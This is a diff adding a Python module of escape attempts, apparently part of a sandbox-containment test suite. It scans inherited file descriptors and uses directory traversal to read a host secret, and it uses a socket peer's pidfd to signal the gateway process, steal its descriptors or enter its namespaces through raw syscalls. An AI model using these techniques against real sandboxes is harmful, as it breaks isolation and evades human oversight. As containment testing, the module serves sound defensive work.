@@ -1,0 +1,96 @@
+"""Attacks by what was left open: files, folders, sockets and the processes behind them."""
+
+from __future__ import annotations
+
+import os
+import signal
+import socket
+import stat
+from typing import Any
+
+from attempt import Contained, Given, attack, call, main
+
+_SO_PEERPIDFD = 77
+
+
+@attack
+def use_open_files(given: Given) -> str:
+    """A folder that was left open leads up to the host's root; a file may be read."""
+    for number in _numbers():
+        try:
+            mode = os.fstat(number).st_mode
+            path = "../" * 32 + given["secret"].lstrip("/")
+            if stat.S_ISDIR(mode):
+                with open(os.open(path, os.O_RDONLY, dir_fd=number)) as file:
+                    if given["token"] in file.read():
+                        return f"descriptor {number} leads to the host's root"
+            elif stat.S_ISREG(mode) and given["token"].encode() in os.pread(number, 1 << 16, 0):
+                return f"descriptor {number} is the host's"
+        except OSError:
+            continue
+    raise Contained("nothing of the host is open")
+
+
+@attack
+def use_peer_process(given: Given) -> str:
+    """A unix socket names the process at its other end: the gateway."""
+    for number in _numbers():
+        try:
+            sock = socket.socket(fileno=os.dup(number))
+        except OSError:
+            continue
+        with sock:
+            try:
+                handle = sock.getsockopt(socket.SOL_SOCKET, _SO_PEERPIDFD)
+            except OSError:
+                continue
+        with open(f"/proc/self/fdinfo/{handle}") as file:
+            if f"Pid:\t{os.getpid()}\n" in file.read():
+                continue  # both ends are ours
+        for what, use in (("signal", _signal), ("take descriptors of", _take), ("enter", _enter)):
+            try:
+                use(handle)
+            except OSError:
+                continue
+            return f"could {what} the process behind descriptor {number}"
+    raise Contained("no peer can be used")
+
+
+def listing() -> dict[str, Any]:
+    """What is open: for each descriptor its kind, and for sockets whether they listen, and whose the other end is."""
+    return {str(number): _described(number) for number in _numbers()}
+
+
+def _described(number: int) -> str:
+    try:
+        target = os.readlink(f"/proc/self/fd/{number}")
+    except OSError:
+        return "gone"
+    if not target.startswith("socket:"):
+        return target.split(":[")[0] if target.startswith("pipe:") else target
+    with socket.socket(fileno=os.dup(number)) as sock:
+        family = socket.AddressFamily(sock.family).name
+        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
+            return f"{family} listening"
+        peer = int.from_bytes(sock.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)[:4], "little")
+        return f"{family} {'own' if peer == os.getpid() else 'connection'}"
+
+
+def _signal(handle: int) -> None:
+    signal.pidfd_send_signal(handle, signal.SIGCONT)
+
+
+def _take(handle: int) -> None:
+    os.close(call(438, handle, 0, 0))
+
+
+def _enter(handle: int) -> None:
+    call({"x86_64": 308, "aarch64": 268}, handle, 0x20000)
+
+
+def _numbers() -> list[int]:
+    return [int(name) for name in os.listdir("/proc/self/fd")]
+
+
+if __name__ == "__main__":
+    main()
